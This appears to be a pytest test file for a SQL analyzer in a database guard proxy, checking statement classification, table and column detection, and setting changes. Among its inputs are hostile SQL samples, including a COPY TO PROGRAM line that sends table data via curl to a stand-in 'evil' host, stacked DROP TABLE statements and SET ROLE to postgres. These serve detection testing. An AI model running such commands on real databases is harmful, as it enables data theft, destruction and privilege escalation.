"""guardproxy.analysis: what the analyzer finds in a statement (no database)."""

from __future__ import annotations

import pytest
from _policy_helpers import example_catalog

from guardproxy.analysis import (
    Catalog,
    Op,
    RelationAccess,
    SqlSyntaxError,
    StatementClass,
    StatementInfo,
    analyze,
    shape,
)
from guardproxy.analysis import statements as statement_table

C = StatementClass


def one(sql: str, catalog: Catalog | None = None) -> StatementInfo:
    infos = analyze(sql, catalog)
    assert len(infos) == 1, infos
    return infos[0]


def rel(info: StatementInfo, name: str, op: Op, schema: str = "public") -> RelationAccess:
    for access in info.relations:
        if access.name == name and access.op is op and access.schema == schema:
            return access
    raise AssertionError(f"no {op} on {schema}.{name} in {info.relations}")


def names(info: StatementInfo, op: Op | None = None) -> set[str]:
    return {r.qualified for r in info.relations if op is None or r.op is op}


# -- statements and classes ------------------------------------------------------------


def test_stacked_statements_are_each_described() -> None:
    infos = analyze("COMMIT; DROP TABLE orders; SELECT 1")
    assert [i.command for i in infos] == ["COMMIT", "DROP", "SELECT"]
    assert infos[1].kind is C.DDL
    assert rel(infos[1], "orders", Op.DDL)
    assert infos[0].text == "COMMIT"
    assert infos[1].text == "DROP TABLE orders"


def test_empty_text_has_no_statements() -> None:
    assert analyze("  -- nothing\n /* here */ ") == ()


def test_dollar_quoting_hides_no_statement() -> None:
    infos = analyze("SELECT $$; DELETE FROM orders; $$ AS s, $x$ ' $x$")
    assert len(infos) == 1
    assert infos[0].relations == ()


def test_comments_between_tokens_do_not_hide_tables() -> None:
    info = one("SELECT/**/email/**/FROM/*x*/customers--y\n")
    assert rel(info, "customers", Op.SELECT).columns == {"email"}


def test_syntax_error_reports_message_and_position() -> None:
    with pytest.raises(SqlSyntaxError) as caught:
        analyze("SELECT 1; SELEC 2")
    assert 'syntax error at or near "SELEC"' in caught.value.message
    assert caught.value.position == 11
    assert caught.value.sqlstate == "42601"


def test_comment_inside_keyword_is_a_syntax_error() -> None:
    with pytest.raises(SqlSyntaxError):
        analyze("DEL/**/ETE FROM orders")


@pytest.mark.parametrize(
    ("sql", "kind", "classes"),
    [
        ("SELECT 1", C.READ, {C.READ}),
        ("VALUES (1)", C.READ, {C.READ}),
        ("INSERT INTO orders (id) VALUES (1)", C.WRITE, {C.WRITE}),
        ("TRUNCATE orders", C.WRITE, {C.WRITE}),
        ("CREATE TABLE x (a int)", C.DDL, {C.DDL}),
        ("CREATE VIEW v AS SELECT id FROM orders", C.DDL, {C.DDL, C.READ}),
        ("GRANT SELECT ON orders TO someone", C.ADMIN, {C.ADMIN}),
        ("VACUUM orders", C.ADMIN, {C.ADMIN}),
        ("DO $$ BEGIN END $$", C.CODE, {C.CODE}),
        ("CALL do_things(1)", C.CODE, {C.CODE}),
        ("LISTEN ch", C.NOTIFY, {C.NOTIFY}),
        ("NOTIFY ch, 'x'", C.NOTIFY, {C.NOTIFY}),
        ("UNLISTEN *", C.SESSION, {C.SESSION}),
        ("BEGIN", C.TRANSACTION, {C.TRANSACTION}),
        ("PREPARE TRANSACTION 'x'", C.TRANSACTION, {C.ADMIN}),
        ("SHOW search_path", C.SESSION, {C.SESSION}),
        ("DISCARD ALL", C.SESSION, {C.SESSION}),
        ("FETCH 10 FROM c", C.CURSOR, {C.CURSOR}),
        ("CLOSE ALL", C.CURSOR, {C.CURSOR}),
        ("DEALLOCATE ALL", C.PREPARED, {C.PREPARED}),
    ],
)
def test_statement_classes(sql: str, kind: StatementClass, classes: set[StatementClass]) -> None:
    info = one(sql)
    assert info.kind is kind
    assert info.classes == classes


def test_unknown_statement_kind_is_unsupported(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delitem(statement_table.STATEMENTS, "ListenStmt")
    info = one("LISTEN ch")
    assert info.unsupported == ("ListenStmt statements are not supported by guardproxy",)


def test_unknown_node_in_a_query_is_unsupported(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(
        "guardproxy.analysis.collector.QUERY_NODES", statement_table.QUERY_NODES - {"XmlExpr"}
    )
    info = one("SELECT xmlelement(name a, id) FROM orders")
    assert info.unsupported == ("XmlExpr nodes are not supported",)


# -- relations everywhere ----------------------------------------------------------------


def test_relations_in_joins_subqueries_lateral_and_sublinks() -> None:
    info = one(
        """
        SELECT c.name, x.n
        FROM customers c
        LEFT JOIN LATERAL (SELECT count(*) AS n FROM orders o WHERE o.customer_id = c.id) x ON true
        WHERE EXISTS (SELECT 1 FROM payments p WHERE p.amount > 0)
          AND c.id IN (SELECT order_id FROM order_state_log)
        """
    )
    assert names(info, Op.SELECT) == {
        "public.customers",
        "public.orders",
        "public.payments",
        "public.order_state_log",
    }


def test_table_statement_reads_every_column() -> None:
    access = rel(one("TABLE payments"), "payments", Op.SELECT)
    assert access.all_columns


def test_cte_reference_is_not_a_relation() -> None:
    info = one("WITH recent AS (SELECT id FROM orders) SELECT * FROM recent")
    assert names(info) == {"public.orders"}
    assert info.ctes == ("recent",)


def test_cte_named_like_a_table_still_reads_the_table() -> None:
    info = one("WITH customers AS (SELECT * FROM customers) SELECT id FROM customers")
    access = rel(info, "customers", Op.SELECT)
    assert access.all_columns  # the CTE body's * reads every real column


def test_later_cte_sees_earlier_one_but_not_the_reverse() -> None:
    assert names(one("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b")) == set()
    info = one("WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b")
    assert names(info) == {"public.a"}  # b's body names the table a, not the later CTE


def test_recursive_cte_refers_to_itself() -> None:
    info = one(
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) SELECT * FROM t"
    )
    assert info.relations == ()


def test_schema_qualified_name_never_refers_to_a_cte() -> None:
    info = one("WITH orders AS (SELECT 1 AS id) SELECT id FROM public.orders")
    assert names(info) == {"public.orders"}


def test_writable_cte_is_a_write() -> None:
    info = one("WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT count(*) FROM d")
    assert info.kind is C.READ
    assert C.WRITE in info.classes
    assert info.writable_ctes == ("d",)
    assert rel(info, "orders", Op.DELETE)
    assert rel(info, "orders", Op.SELECT).all_columns  # RETURNING *


def test_select_into_creates_a_table() -> None:
    info = one("SELECT id INTO TEMP stash FROM orders")
    assert info.command == "SELECT"
    assert C.DDL in info.classes
    assert rel(info, "stash", Op.CREATE)


def test_explain_analyze_is_judged_as_its_statement() -> None:
    info = one("EXPLAIN (ANALYZE, FORMAT JSON) DELETE FROM orders WHERE id = 1")
    assert info.explain_analyze
    assert info.command == "EXPLAIN ANALYZE"
    assert C.WRITE in info.classes
    assert rel(info, "orders", Op.DELETE)


def test_explain_without_analyze_still_lists_the_write() -> None:
    info = one("EXPLAIN (ANALYZE false) UPDATE orders SET tracking_number = 'x' WHERE id = 1")
    assert not info.explain_analyze
    assert C.WRITE in info.classes


def test_copy_directions_and_endpoints() -> None:
    to_client = one("COPY customers (id, name) TO STDOUT")
    assert to_client.copy is not None and to_client.copy.endpoint == "client"
    assert rel(to_client, "customers", Op.SELECT).columns == {"id", "name"}
    assert to_client.classes == {C.READ}
    whole = one("COPY customers TO STDOUT")
    assert rel(whole, "customers", Op.SELECT).all_columns
    from_client = one("COPY orders FROM STDIN")
    assert C.WRITE in from_client.classes and rel(from_client, "orders", Op.INSERT)
    program = one("COPY orders TO PROGRAM 'curl -d @- http://evil'")
    assert program.copy is not None and program.copy.endpoint == "program"
    assert C.ADMIN in program.classes
    to_file = one("COPY (SELECT 1) TO '/tmp/x'")
    assert to_file.copy is not None and to_file.copy.endpoint == "file"
    assert C.ADMIN in to_file.classes


def test_declare_cursor_describes_its_query() -> None:
    info = one("DECLARE c CURSOR WITH HOLD FOR SELECT email FROM customers")
    assert info.kind is C.CURSOR
    assert C.READ in info.classes
    assert rel(info, "customers", Op.SELECT).columns == {"email"}


def test_prepare_execute_deallocate() -> None:
    prepare = one("PREPARE wipe (bigint) AS DELETE FROM orders WHERE id = $1")
    assert prepare.prepare_name == "wipe"
    assert prepare.prepared_sql == "DELETE FROM orders WHERE id = $1"
    assert C.WRITE in prepare.classes
    execute = one("EXECUTE wipe(1)")
    assert execute.execute_name == "wipe" and execute.relations == ()
    assert one("DEALLOCATE wipe").deallocate_name == "wipe"
    assert one("DEALLOCATE ALL").deallocate_name == ""


def test_lock_statement_and_locking_clauses() -> None:
    lock = one("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE")
    assert lock.locking == ("LOCK IN ACCESS EXCLUSIVE MODE",)
    assert rel(lock, "orders", Op.LOCK)
    assert C.WRITE in lock.classes
    assert one("LOCK TABLE orders IN ACCESS SHARE MODE").classes == {C.READ}
    info = one("SELECT o.id FROM orders o FOR UPDATE OF o SKIP LOCKED")
    assert info.locking == ("FOR UPDATE",)
    assert names(info) == {"public.orders"}  # OF o names the alias, not a table o
    assert one("SELECT 1 FROM orders FOR KEY SHARE").locking == ("FOR KEY SHARE",)


def test_ddl_targets() -> None:
    assert rel(
        one("CREATE TRIGGER t AFTER INSERT ON orders EXECUTE FUNCTION f()"), "orders", Op.DDL
    )
    assert rel(one("CREATE RULE r AS ON INSERT TO orders DO ALSO NOTIFY x"), "orders", Op.DDL)
    assert rel(one("ALTER TABLE payments ADD COLUMN x int"), "payments", Op.DDL)
    assert rel(one("DROP VIEW IF EXISTS sales.v"), "v", Op.DDL, schema="sales")
    fk = one("CREATE TABLE t (o bigint REFERENCES orders (id))")
    assert rel(fk, "orders", Op.REFERENCES) and rel(fk, "t", Op.CREATE)


def test_identifiers_fold_like_postgres() -> None:
    assert names(one("SELECT * FROM CUSTOMERS")) == {"public.customers"}
    assert names(one('SELECT * FROM "Customers"')) == {"public.Customers"}
    assert names(one('SELECT * FROM U&"\\0063ustomers"')) == {"public.customers"}
    assert names(one("SELECT * FROM U&\"!0063ustomers\" UESCAPE '!'")) == {"public.customers"}
    assert names(one("SELECT * FROM PUBLIC.Payments")) == {"public.payments"}


# -- columns -------------------------------------------------------------------------------


def test_star_and_whole_row_references_read_every_column() -> None:
    for sql in (
        "SELECT * FROM customers",
        "SELECT c.* FROM customers c",
        "SELECT c FROM customers c",
        "SELECT row_to_json(c) FROM customers c",
        "SELECT (c).name FROM customers c",
        "SELECT to_jsonb(customers) FROM customers",
    ):
        for catalog in (None, example_catalog()):
            assert rel(one(sql, catalog), "customers", Op.SELECT).all_columns, (sql, catalog)


def test_derived_tables_charge_their_bodies_only() -> None:
    info = one("SELECT x FROM (SELECT id, name FROM customers) x", example_catalog())
    access = rel(info, "customers", Op.SELECT)
    assert access.columns == {"id", "name"} and not access.all_columns


def test_unqualified_columns_resolved_with_the_catalog() -> None:
    sql = "SELECT name, fulfillment_status FROM customers JOIN orders ON orders.customer_id = customers.id"
    with_catalog = one(sql, example_catalog())
    assert rel(with_catalog, "customers", Op.SELECT).columns == {"name", "id"}
    assert rel(with_catalog, "orders", Op.SELECT).columns == {"fulfillment_status", "customer_id"}
    # Without a catalog a bare name is charged to every candidate (fail closed).
    without = one(sql)
    assert "fulfillment_status" in rel(without, "customers", Op.SELECT).columns
    assert "name" in rel(without, "orders", Op.SELECT).columns


def test_correlated_column_reaches_the_outer_table() -> None:
    sql = "SELECT (SELECT count(*) FROM orders WHERE email LIKE '%x') FROM customers"
    info = one(sql, example_catalog())
    assert rel(info, "customers", Op.SELECT).columns == {"email"}
    assert "email" in rel(one(sql), "customers", Op.SELECT).columns


def test_column_aliases_map_to_real_columns() -> None:
    sql = "SELECT e FROM customers AS c(i, n, e)"
    assert rel(one(sql, example_catalog()), "customers", Op.SELECT).columns == {"email"}
    assert rel(one(sql), "customers", Op.SELECT).all_columns


def test_schema_qualified_column_references() -> None:
    info = one(
        "SELECT pg_catalog.pg_class.relname FROM pg_catalog.pg_class "
        "JOIN pg_catalog.pg_namespace ON pg_catalog.pg_namespace.oid = pg_catalog.pg_class.relnamespace"
    )
    assert rel(info, "pg_class", Op.SELECT, schema="pg_catalog").columns == {
        "relname",
        "relnamespace",
    }
    assert rel(info, "pg_namespace", Op.SELECT, schema="pg_catalog").columns == {"oid"}


def test_order_by_output_alias_is_not_a_column() -> None:
    info = one("SELECT name AS who FROM customers ORDER BY who", example_catalog())
    assert rel(info, "customers", Op.SELECT).columns == {"name"}


def test_join_alias_reaches_base_columns() -> None:
    info = one(
        "SELECT j.email FROM (customers JOIN orders ON orders.customer_id = customers.id) AS j",
        example_catalog(),
    )
    assert "email" in rel(info, "customers", Op.SELECT).columns


def test_update_columns_where_and_returning() -> None:
    info = one(
        "UPDATE orders SET fulfillment_status = 'shipped', shipped_at = now() "
        "WHERE id = 3 RETURNING tracking_number",
        example_catalog(),
    )
    update = rel(info, "orders", Op.UPDATE)
    assert update.columns == {"fulfillment_status", "shipped_at"} and update.has_where
    assert rel(info, "orders", Op.SELECT).columns == {"id", "tracking_number"}


def test_update_from_other_tables() -> None:
    info = one(
        "UPDATE orders o SET tracking_number = p.card_last4 FROM payments p WHERE p.order_id = o.id",
        example_catalog(),
    )
    assert rel(info, "payments", Op.SELECT).columns == {"card_last4", "order_id"}


@pytest.mark.parametrize(
    ("where", "has_where"),
    [
        ("", False),
        ("WHERE true", False),
        ("WHERE 1 = 1", False),
        ("WHERE id = 1", True),
        ("WHERE CURRENT OF c", True),
    ],
)
def test_has_where(where: str, has_where: bool) -> None:
    assert rel(one(f"DELETE FROM orders {where}"), "orders", Op.DELETE).has_where is has_where


def test_insert_columns_and_on_conflict() -> None:
    info = one(
        "INSERT INTO order_state_log AS l (order_id, new_status, changed_by) VALUES (1, 'x', 'me') "
        "ON CONFLICT (idempotency_key) DO UPDATE SET reason = excluded.reason WHERE l.order_id = 1",
        example_catalog(),
    )
    assert rel(info, "order_state_log", Op.INSERT).columns == {
        "order_id",
        "new_status",
        "changed_by",
    }
    assert rel(info, "order_state_log", Op.UPDATE).columns == {"reason"}
    assert "excluded" not in {r.name for r in info.relations}
    assert rel(one("INSERT INTO orders VALUES (1)"), "orders", Op.INSERT).all_columns
    select = one("INSERT INTO orders (id) SELECT id FROM payments")
    assert rel(select, "payments", Op.SELECT).columns == {"id"}


def test_merge_operations() -> None:
    info = one(
        "MERGE INTO orders o USING payments p ON o.id = p.order_id "
        "WHEN MATCHED THEN UPDATE SET tracking_number = 'x' "
        "WHEN NOT MATCHED THEN INSERT (id) VALUES (p.order_id) "
        "WHEN NOT MATCHED BY SOURCE THEN DELETE"
    )
    assert rel(info, "orders", Op.UPDATE).columns == {"tracking_number"}
    assert rel(info, "orders", Op.INSERT).columns == {"id"}
    assert rel(info, "orders", Op.DELETE)
    assert rel(info, "payments", Op.SELECT)


# -- functions and settings ------------------------------------------------------------


def test_functions_are_found_everywhere() -> None:
    info = one(
        "SELECT lower(name) FROM customers, pg_catalog.generate_series(1, 2) g, "
        "LATERAL pg_ls_dir('.') d "
        "WHERE id IN (SELECT nextval('s')) ORDER BY \"Weird\"(id)"
    )
    found = {f.qualified for f in info.functions}
    assert found == {"lower", "pg_catalog.generate_series", "pg_ls_dir", "nextval", "Weird"}
    assert {f.qualified for f in one("CALL cleanup(pg_sleep(1))").functions} == {
        "cleanup",
        "pg_sleep",
    }
    assert {f.name for f in one("CREATE TABLE t (a int DEFAULT pg_sleep(1))").functions} == {
        "pg_sleep"
    }


@pytest.mark.parametrize(
    ("sql", "name", "action", "values", "local"),
    [
        ("SET statement_timeout = 0", "statement_timeout", "set", ("0",), False),
        ("SET LOCAL statement_timeout TO '5s'", "statement_timeout", "set", ("5s",), True),
        ("RESET statement_timeout", "statement_timeout", "reset", None, False),
        ("SET statement_timeout TO DEFAULT", "statement_timeout", "reset", None, False),
        ("RESET ALL", "all", "reset", None, False),
        ("SET ROLE postgres", "role", "set", ("postgres",), False),
        (
            "SET SESSION AUTHORIZATION postgres",
            "session_authorization",
            "set",
            ("postgres",),
            False,
        ),
        ("SET SCHEMA 'evil'", "search_path", "set", ("evil",), False),
        ("SET search_path TO evil, public", "search_path", "set", ("evil", "public"), False),
        ("SET TIME ZONE 'UTC'", "timezone", "set", ("UTC",), False),
        ("SET TRANSACTION READ WRITE", "transaction_read_only", "set", ("off",), True),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            "default_transaction_read_only",
            "set",
            ("off",),
            False,
        ),
        ("BEGIN READ WRITE", "transaction_read_only", "set", ("off",), True),
        ("SET guard.task = 'T-1'", "guard.task", "set", ("T-1",), False),
    ],
)
def test_setting_changes(
    sql: str, name: str, action: str, values: tuple[str, ...] | None, local: bool
) -> None:
    (change,) = one(sql).settings
    assert (change.name, change.action, change.values, change.local) == (
        name,
        action,
        values,
        local,
    )


def test_begin_with_several_modes() -> None:
    info = one("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY")
    assert {(c.name, c.values) for c in info.settings} == {
        ("transaction_isolation", ("serializable",)),
        ("transaction_read_only", ("on",)),
    }


def test_set_config_is_a_setting_change_wherever_it_is() -> None:
    info = one(
        "SELECT 1 FROM orders WHERE set_config('default_transaction_read_only', 'off', false) <> ''"
    )
    (change,) = info.settings
    assert (change.name, change.values, change.via) == (
        "default_transaction_read_only",
        ("off",),
        "set_config",
    )
    dynamic = one("SELECT set_config(name, 'off', true) FROM pg_settings")
    assert dynamic.settings[0].name is None and dynamic.settings[0].local


# -- catalog and shape -------------------------------------------------------------------


def test_catalog_resolution_follows_the_search_path() -> None:
    catalog = Catalog.from_rows(
        [("app", "orders", "id"), ("public", "orders", "id"), ("public", "pg_class", "x")],
        search_path=["$user", "app", "public"],
    )
    assert catalog.search_path == ("app", "public")
    assert catalog.resolve(None, "orders") == ("app", "orders")
    assert catalog.resolve(None, "pg_class") == ("pg_catalog", "pg_class")  # pg_catalog first
    assert catalog.resolve(None, "nothing") == ("app", "nothing")
    assert catalog.resolve("public", "orders") == ("public", "orders")
    explicit = Catalog.from_rows(
        [("public", "pg_class", "x")], search_path=["public", "pg_catalog"]
    )
    assert explicit.resolve(None, "pg_class") == ("public", "pg_class")
    info = one("SELECT id FROM orders", catalog)
    assert names(info) == {"app.orders"}


def test_catalog_versions_and_ddl() -> None:
    rows = [("public", "t", "a"), ("public", "t", "b")]
    assert Catalog.from_rows(rows).version == Catalog.from_rows(rows).version
    assert Catalog.from_rows(rows).version != Catalog.from_rows(rows[:1]).version
    catalog = example_catalog()
    assert catalog.columns("public", "orders") == (
        "id",
        "customer_id",
        "fulfillment_status",
        "requires_signature",
        "shipped_at",
        "tracking_number",
        "last_modified_at",
        "deleted_at",
        "deleted_by",
        "delete_reason",
    )
    assert catalog.columns("public", "payments") == ("id", "order_id", "amount", "card_last4")


def test_shape_ignores_constants_and_edge_comments() -> None:
    a = shape("SELECT name FROM customers WHERE id = 1 /* task='a' */")
    b = shape("/* task='b',step='2' */ SELECT name FROM customers WHERE id = 42")
    assert a == b == "SELECT name FROM customers WHERE id = $1"
    assert shape("SELECT email FROM customers WHERE id = 1") != a
    assert shape('SELECT name FROM "customers" WHERE id = 1') != a
    assert shape("SELEC 1") is None
    # a comment that is really in the middle stays part of the key
    assert shape("SELECT /* x */ 1") == "SELECT /* x */ $1"
    # U& escape characters are part of the identifier, not a constant
    assert shape("SELECT * FROM U&\"d!0061ta\" UESCAPE '!'") != shape(
        "SELECT * FROM U&\"d!0061ta\" UESCAPE '#'"
    )


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM json_to_record('{}') AS x(a int)",
        "SELECT * FROM generate_series(1, 3) WITH ORDINALITY AS g(n, i)",
        "SELECT * FROM json_table('[1]', '$[*]' COLUMNS (a int PATH '$')) jt",
        "SELECT * FROM xmltable('/r' PASSING '<r/>' COLUMNS a int PATH 'a')",
        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) "
        "SEARCH DEPTH FIRST BY n SET ord CYCLE n SET c USING p SELECT * FROM r",
        "SELECT a, count(*) FILTER (WHERE a > 1) OVER w FROM t WINDOW w AS (PARTITION BY a)",
        "SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY a) FROM t GROUP BY ROLLUP (a)",
        "SELECT json_object('a': 1), json_arrayagg(a), '{}'::json IS JSON OBJECT FROM t",
        "SELECT xmlserialize(content xmlforest(1 AS a) AS text)",
        "SELECT a[1:2], (a).b, f(x => 1), f(VARIADIC ARRAY[1]) FROM t",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING RETURNING merge_action(), t.*",
        "DELETE FROM t WHERE id = 1 RETURNING OLD.*",
        "COPY t FROM STDIN WITH (FORMAT csv) WHERE a > 1",
    ],
)
def test_ordinary_syntax_is_understood(sql: str) -> None:
    for info in analyze(sql):
        assert info.unsupported == ()
        assert info.unresolved == ()


def test_returning_old_and_new_read_the_target() -> None:
    info = one("UPDATE customers SET name = 'x' WHERE id = 1 RETURNING old.email, n.created_at")
    assert rel(info, "customers", Op.SELECT).columns == {"id", "email"}
    renamed = one(
        "UPDATE customers SET name = 'x' WHERE id = 1 RETURNING WITH (NEW AS n) n.created_at"
    )
    assert rel(renamed, "customers", Op.SELECT).columns == {"id", "created_at"}
    assert rel(
        one("DELETE FROM customers WHERE id = 1 RETURNING OLD.*"), "customers", Op.SELECT
    ).all_columns
